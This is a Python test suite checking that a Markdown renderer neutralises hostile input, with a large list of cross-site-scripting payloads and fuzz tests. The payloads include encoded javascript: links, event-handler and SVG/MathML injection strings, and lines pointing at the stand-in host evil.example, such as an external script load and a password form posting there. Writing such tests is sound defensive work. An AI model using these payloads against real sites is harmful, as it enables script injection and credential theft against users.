"""Hostile Markdown is inert: nothing in it runs, loads or leads anywhere but to web and mail."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from editorial.markdown import render

TAGS = {
    *("a", "abbr", "blockquote", "br", "code", "em", "h3", "h4", "h5", "hr", "li", "ol", "p", "pre"),
    *("strong", "sub", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "text <script>alert(1)</script> text",
    "> <script>alert(1)</script>",
    "- <script>\n  alert(1)\n  </script>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "![x](x.png)",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/x.png "onerror=alert(1)")',
    "[x](javascript:alert(1))",
    "[x](JavaScript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;&#97;vascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript\u200b:alert(1))",
    "[x](ｊavascript:alert(1))",
    "[x](javascript://evil.example/%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:image/svg+xml;base64,PHN2Zz4=)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/)",
    "[x](/admin/)",
    "[x](#top)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][1]\n\n[1]: <javascript:alert(1)> 'title'",
    '[x](https://example.org "\\" onmouseover=\\"alert(1)")',
    "[x](https://example.org/\"onmouseover='alert(1)')",
    '[x](https://example.org/" onclick="alert(1))',
    "[a<script>](https://example.org)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    "<div onmouseover=alert(1)>x</div>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="position:fixed">x</p>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)</script>",
    "|a|b|\n|-|-|\n|<script>alert(1)</script>|[x](javascript:alert(1))|",
    "# <img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
]


class Markup(HTMLParser):
    """The tags and attributes that a browser would find."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes = [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_comment(self, data):
        self.tags.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.tags.append(f"<!{decl}>")

    def handle_pi(self, data):
        self.tags.append(f"<?{data}>")


def dangers(html):
    """What in the HTML could run, load or lead astray."""
    markup = Markup(html)
    return (
        [tag for tag in markup.tags if tag not in TAGS]
        + [name for tag, name, value in markup.attributes if not allowed(tag, name, value)]
        + [value for tag, name, value in markup.attributes if name == "href" and not leads_to_web(value)]
    )


def allowed(tag, name, value):
    rel = (name, value) == ("rel", "noopener")
    return (tag == "a" and (name in {"href", "title"} or rel)) or (tag, name) == ("ol", "start")


def leads_to_web(address):
    """Read as a browser reads it (WHATWG URL): what has no scheme is relative to our own page."""
    address = re.sub(r"[\t\n\r]", "", address).lstrip("".join(map(chr, range(33))))
    scheme = SCHEME.match(address)
    return scheme is None or scheme[1].lower() in {"http", "https", "mailto"}


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert(text):
    assert dangers(render(text)) == []


def test_the_corpus_is_large():
    assert len(set(HOSTILE)) >= 60


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=4), st.sampled_from(["", " ", "\n", "\n\n"]))
def test_hostile_texts_are_inert_together(texts, joiner):
    assert dangers(render(joiner.join(texts))) == []


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="<>[]()!\"'`&;:#/\\= \n\tascriptjvonedhf*_|-\x00\u200b", max_size=80))
def test_any_text_is_inert(text):
    assert dangers(render(text)) == []


def test_this_parser_sees_what_a_browser_would_run():
    html = '<p onclick="x"><script></script><a href=" Java\tScript:x">x</a><!-- c --></p>'

    assert dangers(html) == ["script", "<!-- c -->", "onclick", " Java\tScript:x"]


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Two **words**, one _more_.", "<p>Two <strong>words</strong>, one <em>more</em>.</p>\n"),
        ("# Heading", "<h3>Heading</h3>\n"),
        ("### Heading", "<h5>Heading</h5>\n"),
        ("###### Heading", "<h5>Heading</h5>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
        (
            "[ESA](https://www.esa.int)",
            '<p><a href="https://www.esa.int" rel="noopener">ESA</a></p>\n',
        ),
        (
            "[us](mailto:desk@example.org)",
            '<p><a href="mailto:desk@example.org" rel="noopener">us</a></p>\n',
        ),
        ("<b>bold</b>", "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n"),
        ("", ""),
        ("nul\0byte", "<p>nulbyte</p>\n"),
        (
            "|a|\n|-|\n|b|",
            (
                "<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n"
                "<tbody>\n<tr>\n<td>b</td>\n</tr>\n</tbody>\n</table>\n"
            ),
        ),
    ],
)
def test_honest_text_is_rendered(text, html):
    assert render(text) == html
